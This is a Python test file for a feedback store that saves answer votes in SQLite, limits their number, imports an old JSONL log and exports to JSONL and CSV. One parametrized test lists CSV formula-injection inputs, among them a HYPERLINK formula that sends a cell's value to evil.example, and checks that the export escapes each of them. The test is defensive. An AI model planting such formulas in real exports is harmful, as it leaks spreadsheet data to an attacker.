"""The feedback store: one vote per voter and answer, a cap, concurrency, the old JSONL imported, safe CSV."""
from __future__ import annotations

import csv
import json
import sqlite3
import threading

import pytest

from reportqa import feedback
from reportqa.feedback import FeedbackFull, FeedbackStore

CITES = [{"doc": "d", "section": "一、x", "start": 1, "end": 9, "quote": "q", "link": "/report/d#1-9", "text": "long"}]


def vote(store, answer_id="a1", voter="alice", choice="like", question="问题？"):
    return store.record(answer_id, voter, choice, question, "答案", CITES, "2025-01-01T00:00:00+00:00")


def test_votes_are_stored_in_sqlite_wal_with_the_servers_copy(tmp_path):
    store = FeedbackStore(tmp_path / "deep" / "fb.sqlite3")
    assert vote(store).status == "new"
    (entry,) = list(store.entries())
    assert entry["vote"] == "like" and entry["question"] == "问题？" and entry["answer_id"] == "a1"
    assert entry["voter"] == "alice" and entry["citations"][0]["link"] == "/report/d#1-9"
    assert "text" not in entry["citations"][0] and entry["timestamp"]
    mode = sqlite3.connect(tmp_path / "deep" / "fb.sqlite3").execute("PRAGMA journal_mode").fetchone()[0]
    assert mode == "wal"


def test_a_later_vote_of_the_same_voter_replaces_the_earlier(tmp_path):
    store = FeedbackStore(tmp_path / "fb.sqlite3")
    for _ in range(50):
        vote(store)
    assert vote(store, choice="dislike").status == "replaced"
    assert [(e["voter"], e["vote"]) for e in store.entries()] == [("alice", "dislike")]
    vote(store, voter="bob")  # another voter, the same answer: a vote of their own
    assert store.count() == 2
    assert store.record("a1", "alice", None, "", "", []).status == "removed"  # taken back
    assert [e["voter"] for e in store.entries()] == ["bob"]


def test_the_store_refuses_votes_beyond_its_cap_and_keeps_the_rest(tmp_path):
    store = FeedbackStore(tmp_path / "fb.sqlite3", max_votes=3)
    for n in range(3):
        vote(store, answer_id=f"a{n}")
    with pytest.raises(FeedbackFull, match="REPORTQA_FEEDBACK_MAX"):
        vote(store, answer_id="a9")
    assert vote(store, answer_id="a0", choice="dislike").status == "replaced"  # changing a vote still works
    assert store.count() == 3


def test_rejects_unknown_vote(tmp_path):
    with pytest.raises(ValueError):
        vote(FeedbackStore(tmp_path / "fb.sqlite3"), choice="meh")


def test_concurrent_votes_are_all_kept(tmp_path):
    store = FeedbackStore(tmp_path / "fb.sqlite3")
    threads = [threading.Thread(target=lambda n=n: [vote(store, f"q{n}-{i}", question="a" * 500)
                                                    for i in range(20)]) for n in range(8)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert store.count() == 160 and all(e["question"] == "a" * 500 for e in store.entries())


def test_an_old_jsonl_store_is_imported_once_skipping_damaged_lines(tmp_path):
    legacy = tmp_path / "feedback.jsonl"
    lines = [json.dumps({"timestamp": "2024-12-01T00:00:00+00:00", "vote": "like", "question": "q1",
                         "answer": "a1", "citations": CITES}, ensure_ascii=False),
             '{"half a line',
             json.dumps({"timestamp": "2024-12-02T00:00:00+00:00", "vote": "dislike", "question": "q2",
                         "answer": "a2", "citations": []})]
    legacy.write_text("\n".join(lines) + "\n", encoding="utf-8")
    store = FeedbackStore(tmp_path / "feedback.sqlite3")
    assert [e["question"] for e in store.entries()] == ["q1", "q2"]
    assert not legacy.exists() and (tmp_path / "feedback.jsonl.imported").exists()
    store.close()
    (tmp_path / "feedback.jsonl.imported").rename(legacy)  # the same file again: nothing doubles
    assert FeedbackStore(tmp_path / "feedback.sqlite3").count() == 2


def test_a_configured_jsonl_path_means_the_sqlite_file_beside_it(tmp_path):
    (tmp_path / "fb.jsonl").write_text(json.dumps({"vote": "like", "question": "q", "answer": "a"}) + "\n")
    n = feedback.export(tmp_path / "fb.jsonl", tmp_path / "out.jsonl")
    assert n == 1 and (tmp_path / "fb.sqlite3").exists()


def test_export_round_trips_jsonl_and_csv(tmp_path):
    store = FeedbackStore(tmp_path / "fb.sqlite3")
    vote(store, "a1", question="q1")
    vote(store, "a2", question="q2", choice="dislike")
    store.close()
    assert feedback.export(tmp_path / "fb.sqlite3", tmp_path / "out.jsonl") == 2
    assert [json.loads(x)["question"] for x in (tmp_path / "out.jsonl").read_text().splitlines()] == ["q1", "q2"]
    assert feedback.export(tmp_path / "fb.sqlite3", tmp_path / "out.csv", fmt="csv") == 2
    rows = list(csv.reader((tmp_path / "out.csv").open(encoding="utf-8-sig")))
    assert rows[0][:3] == ["timestamp", "vote", "question"] and rows[1][2] == "q1" and "/report/d#1-9" in rows[1][4]
    assert [p.name for p in tmp_path.iterdir() if p.name.endswith(".tmp")] == []


@pytest.mark.parametrize("text", ['=HYPERLINK("http://evil.example/?x="&A1,"x")', "+1+2", "-2+3", "@SUM(A1)",
                                  "\t=1", "\r=1"])
def test_csv_cells_that_would_start_a_formula_are_escaped(tmp_path, text):
    store = FeedbackStore(tmp_path / "fb.sqlite3")
    vote(store, question=text)
    feedback.export(tmp_path / "fb.sqlite3", tmp_path / "out.csv", fmt="csv")
    question = list(csv.reader((tmp_path / "out.csv").open(encoding="utf-8-sig", newline="")))[1][2]
    assert question == "'" + text


def test_missing_store_exports_nothing_and_creates_no_store(tmp_path):
    assert feedback.export(tmp_path / "none.sqlite3", tmp_path / "out.jsonl") == 0
    assert (tmp_path / "out.jsonl").read_text() == "" and not (tmp_path / "none.sqlite3").exists()
